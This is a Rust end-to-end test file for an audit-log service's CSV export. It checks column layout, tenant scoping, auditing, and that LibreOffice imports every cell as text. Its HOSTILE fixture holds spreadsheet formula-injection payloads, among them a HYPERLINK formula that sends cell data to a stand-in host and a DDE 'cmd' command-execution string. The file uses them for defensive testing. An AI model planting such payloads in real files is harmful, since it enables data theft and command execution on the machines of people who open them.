//! End to end: CSV exports (`GET /v1/exports/events?format=csv`). Read back by an independent RFC
//! 4180 reader cell by cell, and by LibreOffice Calc, which must import every hostile value as
//! text and never as a formula; audited like every export; scoped to the key's tenant.

use crate::common::{event, tempdir, Server};
use serde_json::{json, Value};
use std::path::Path;
use std::process::Command;

const COLUMNS: [&str; 16] = [
    "time",
    "type",
    "label",
    "actor",
    "on_behalf_of",
    "subject",
    "outcome",
    "reason",
    "ticket",
    "correlation_id",
    "ip",
    "refs",
    "changes",
    "event_id",
    "index",
    "leaf_hash",
];

/// Values a spreadsheet would run as formulas, or that break naive CSV.
const HOSTILE: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "two\nlines, \"quoted\"",
];

fn hostile_events() -> Value {
    let events: Vec<Value> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| {
            let mut e = event(&format!("h-{i}"));
            e["actor"]["name"] = json!(h);
            e["subject"]["id"] = json!(h);
            e["refs"] = json!({"order_number": h});
            e["context"]["correlation_id"] = json!(h);
            e
        })
        .collect();
    Value::Array(events)
}

fn read(body: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_exports_have_stable_columns_neutralised_formulas_and_are_audited() {
    let dir = tempdir();
    let s = Server::start(dir.path());
    s.create_tenant("acme");
    let (key_id, key) = s.create_key("acme", &["events:write", "events:read", "events:export"]);
    s.ingest(&key, &hostile_events());
    s.ingest(&key, &json!([event("plain-1")]));
    let other = s.tenant_with_key("globex");
    let mut g = event("globex-secret");
    g["actor"]["name"] = json!("Globex Person");
    s.ingest(&other, &json!([g]));

    let r = s.get("/v1/exports/events?format=csv&bom=true", &key);
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
    assert!(r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .contains("sealbook-export.csv"));
    let body = r.text().unwrap();
    let body = body
        .strip_prefix('\u{feff}')
        .expect("bom=true starts with a BOM");
    assert!(body.contains("\r\n"), "RFC 4180 rows end with CRLF");
    assert!(!body.contains("globex") && !body.contains("Globex"));
    let rows = read(body);
    assert_eq!(rows[0], COLUMNS.to_vec());
    let rows = &rows[1..];
    // The events sent, and Sealbook's own record of the key's creation.
    assert_eq!(rows.len(), HOSTILE.len() + 2);
    assert!(rows.iter().all(|r| r.len() == COLUMNS.len()));
    let col = |name: &str| COLUMNS.iter().position(|c| *c == name).unwrap();
    let indexes: Vec<u64> = rows
        .iter()
        .map(|r| r[col("index")].parse().unwrap())
        .collect();
    assert!(indexes.windows(2).all(|w| w[0] > w[1]), "newest first");

    let plain = &rows[0];
    assert_eq!(plain[col("event_id")], "plain-1");
    assert_eq!(plain[col("type")], "order.status_changed");
    assert_eq!(plain[col("time")], "2026-03-01T09:15:30.120Z");
    assert_eq!(plain[col("actor")], "user:u-42 (Ada Lovelace)");
    assert_eq!(plain[col("subject")], "order:o-1001");
    assert_eq!(plain[col("correlation_id")], "req-7");
    assert_eq!(plain[col("ip")], "192.0.2.10");
    assert_eq!(plain[col("refs")], "order_number:PO-1001");
    let changes: Value = serde_json::from_str(&plain[col("changes")]).unwrap();
    assert_eq!(changes[0]["after"], "shipped");
    assert_eq!(plain[col("leaf_hash")].len(), 64);
    assert!(!plain[col("label")].is_empty(), "catalog label rendered");

    for (i, h) in HOSTILE.iter().enumerate() {
        let row = rows
            .iter()
            .find(|r| r[col("event_id")] == format!("h-{i}"))
            .unwrap();
        // A cell that starts with a formula character gets a leading apostrophe; others stay.
        let neutral = |v: String| {
            if v.starts_with(['=', '+', '-', '@']) {
                format!("'{v}")
            } else {
                v
            }
        };
        assert_eq!(row[col("correlation_id")], neutral(h.to_string()));
        assert_eq!(row[col("subject")], format!("order:{h}"));
        assert_eq!(row[col("refs")], format!("order_number:{h}"));
        assert_eq!(row[col("actor")], format!("user:u-42 ({h})"));
        // The catalog's label starts with the actor's name.
        assert!(
            row[col("label")].starts_with(&neutral(h.to_string())),
            "{row:?}"
        );
    }

    // The export is recorded, with its format and exact row count.
    let audits = s.all_events(&key, "&type=audit_log.exported");
    assert_eq!(audits.len(), 1);
    assert_eq!(audits[0]["data"]["format"], "csv");
    assert_eq!(audits[0]["data"]["count"], rows.len());
    assert_eq!(audits[0]["actor"]["id"], key_id);

    // Without a BOM, the file starts with the header.
    let r = s.get(
        "/v1/exports/events?format=csv&type=order.status_changed&actor=u-42",
        &key,
    );
    assert!(r.text().unwrap().starts_with("time,type,label,"));
}

#[test]
fn csv_exports_refuse_what_they_do_not_take() {
    let dir = tempdir();
    let s = Server::start(dir.path());
    let reader = s.tenant_with_key("acme");
    let (_, exporter) = s.create_key("acme", &["events:export"]);
    let r = s.get("/v1/exports/events?format=csv", &reader);
    assert_eq!(r.status(), 403);
    let p: Value = r.json().unwrap();
    assert!(
        p["detail"].as_str().unwrap().contains("events:export"),
        "{p}"
    );
    for (q, param) in [
        ("format=xlsx", "format"),
        ("format=csv&format=jsonl", "format"),
        ("format=csv&bom=yes", "bom"),
        ("format=csv&limit=5", "limit"),
    ] {
        let r = s.get(&format!("/v1/exports/events?{q}"), &exporter);
        assert_eq!(r.status(), 400, "{q}");
        let p: Value = r.json().unwrap();
        assert_eq!(p["errors"][0]["path"], format!("?{param}"), "{q}: {p}");
    }
    // Nothing was exported, so nothing was recorded.
    assert!(s.all_events(&reader, "&type=audit_log.exported").is_empty());
}

/// Converts `csv` with LibreOffice Calc, importing with formula evaluation on (the dangerous
/// setting), to an ODS file, and returns its `content.xml`.
fn calc_import(dir: &Path, csv: &str) -> String {
    let src = dir.join("export.csv");
    std::fs::write(&src, csv).unwrap();
    let out = Command::new("soffice")
        .args([
            "--headless",
            "--norestore",
            &format!("-env:UserInstallation=file://{}", dir.join("lo").display()),
            // Comma, double quote, UTF-8, from line 1, standard columns, default language,
            // quoted fields not forced to text, special numbers detected, then (tokens 9-13)
            // defaults, and token 13: evaluate formulas.
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "ods",
            "--outdir",
        ])
        .arg(dir)
        .arg(&src)
        .output()
        .expect("LibreOffice (soffice) is installed by .ci/run (libreoffice-calc-nogui)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let unzip = Command::new("unzip")
        .arg("-p")
        .arg(dir.join("export.ods"))
        .arg("content.xml")
        .output()
        .unwrap();
    assert!(unzip.status.success());
    String::from_utf8(unzip.stdout).unwrap()
}

#[test]
fn libreoffice_reads_every_hostile_cell_as_text() {
    let dir = tempdir();
    let s = Server::start(dir.path());
    s.create_tenant("acme");
    let (_, key) = s.create_key("acme", &["events:write", "events:read", "events:export"]);
    s.ingest(&key, &hostile_events());
    let body = s.get("/v1/exports/events?format=csv", &key).text().unwrap();

    // The control: the same import turns a raw formula cell into a formula, so a cell that is
    // not one below was kept as text by the export, not by the import's settings.
    let control = calc_import(dir.path(), "a,b\r\n=1+1,x\r\n");
    assert!(
        control.contains("table:formula="),
        "the control import evaluates formulas"
    );

    let content = calc_import(dir.path(), &body);
    assert!(
        !content.contains("table:formula="),
        "a cell became a formula"
    );
    let xml = |v: &str| {
        v.replace('&', "&amp;")
            .replace('\'', "&apos;")
            .replace('"', "&quot;")
            .replace('<', "&lt;")
    };
    for h in HOSTILE.iter().filter(|h| !h.contains('\n')) {
        let cell = if h.starts_with(['=', '+', '-', '@']) {
            format!("'{h}")
        } else {
            h.to_string()
        };
        assert!(
            content.contains(&format!(
                "office:value-type=\"string\" calcext:value-type=\"string\"><text:p>{}</text:p>",
                xml(&cell)
            )),
            "{h}: the correlation id cell is the text {cell:?}"
        );
    }
    // 1 header + one row per event (the hostile ones and the key's `api_key.created`), each a
    // table row of the sheet: the embedded newline stayed inside its cell.
    assert_eq!(
        content.matches("<table:table-row").count(),
        1 + HOSTILE.len() + 1
    );
}
